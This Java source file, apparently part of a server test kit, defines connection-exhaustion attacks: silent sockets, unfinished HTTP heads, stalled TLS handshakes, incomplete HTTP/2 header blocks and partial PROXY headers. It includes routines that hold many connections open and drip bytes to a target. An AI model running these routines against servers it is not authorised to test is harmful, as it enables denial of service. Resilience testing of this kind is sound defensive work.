package lazaret.testkit.attack;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayDeque;
import java.util.Deque;
import lazaret.vetting.text.KebabCase;

/// The attacks that keep connections open. Each can run against any server for any time.
public enum ConnectionAttack {
  /// Connections without data.
  SILENT(""),
  /// Requests whose head does not end.
  HALF_OPEN("GET /health/live HTTP/1.1\r\nHost: h\r\nX-Long: a"),
  /// Request lines that do not end.
  HALF_LINE("GE"),
  /// Connections that are idle after one request.
  IDLE("GET /health/live HTTP/1.1\r\nHost: %HOST%\r\n\r\n"),
  /// A second request whose head does not end, after a first one with a response.
  HALF_SECOND("GET /health/live HTTP/1.1\r\nHost: %HOST%\r\n\r\nGET / HT"),
  /// The announcement of a TLS handshake that does not follow.
  HALF_TLS("\u0016\u0003\u0001\u0002\u0000\u0001"),
  /// The preface of HTTP/2 and settings, without a request.
  PREFACE("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0"),
  /// A header block of HTTP/2 that does not end.
  HALF_BLOCK("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0\0\0\1\1\0\0\0\0\1\u0082"),
  /// Half a header of the PROXY protocol.
  HALF_PROXY("\r\n\r\n\0\r\nQUIT\n!\u0011\0\u000c\u007f");

  private final String opening;

  ConnectionAttack(String opening) {
    this.opening = opening;
  }

  /// Opens connections until the time is over, and keeps as many of the latest open as permitted.
  ///
  /// @param target the server
  /// @param from local address, such as `127.0.0.9`
  /// @param held number of connections to keep open at once
  /// @param seconds duration in seconds
  /// @return the number of connections that it opened
  public int run(InetSocketAddress target, String from, int held, int seconds) {
    Deque<Socket> open = new ArrayDeque<>();
    long until = System.nanoTime() + seconds * 1_000_000_000L;
    int opened = 0;
    try {
      while (System.nanoTime() < until) {
        if (open.size() == held) {
          close(open.removeFirst());
        }
        try {
          open.addLast(open(target, from));
          opened++;
        } catch (IOException _) {
          pause(5);
        }
      }
      return opened;
    } finally {
      open.forEach(ConnectionAttack::close);
    }
  }

  /// Opens one connection and sends the start of the attack.
  ///
  /// @param from local address
  /// @throws IOException if the server does not accept it
  public Socket open(InetSocketAddress target, String from) throws IOException {
    Socket socket = new Socket();
    try {
      socket.bind(new InetSocketAddress(from, 0));
      socket.connect(target, 10_000);
      socket.setTcpNoDelay(true);
      String host = target.getHostString() + ":" + target.getPort();
      byte[] bytes = opening.replace("%HOST%", host).getBytes(StandardCharsets.ISO_8859_1);
      socket.getOutputStream().write(bytes);
      return socket;
    } catch (IOException e) {
      socket.close();
      throw e;
    }
  }

  /// Sends one byte after another for a limited time.
  ///
  /// @param every milliseconds between two bytes
  /// @param seconds limit in seconds
  /// @return milliseconds until the server closed the connection; -1 if it did not
  public long drip(InetSocketAddress target, String from, int every, int seconds)
      throws IOException {
    long begun = System.nanoTime();
    try (Socket socket = open(target, from)) {
      socket.setSoTimeout(every);
      byte[] buffer = new byte[8_192];
      while (System.nanoTime() - begun < seconds * 1_000_000_000L) {
        if (ended(socket, buffer)) {
          return (System.nanoTime() - begun) / 1_000_000;
        }
      }
      return -1;
    }
  }

  private boolean ended(Socket socket, byte[] buffer) {
    try {
      return socket.getInputStream().read(buffer) < 0;
    } catch (java.net.SocketTimeoutException _) {
      return !dripped(socket);
    } catch (IOException _) {
      return true;
    }
  }

  private boolean dripped(Socket socket) {
    if (this == SILENT || this == IDLE) {
      return true;
    }
    try {
      socket.getOutputStream().write(this == HALF_PROXY || this == HALF_BLOCK ? 0 : 'a');
      return true;
    } catch (IOException _) {
      return false;
    }
  }

  private static void close(Socket socket) {
    try {
      socket.close();
    } catch (IOException _) {
      // The server closed it first.
    }
  }

  private static void pause(int millis) {
    try {
      Thread.sleep(millis);
    } catch (InterruptedException _) {
      Thread.currentThread().interrupt();
    }
  }

  @Override
  public String toString() {
    return KebabCase.of(this);
  }
}
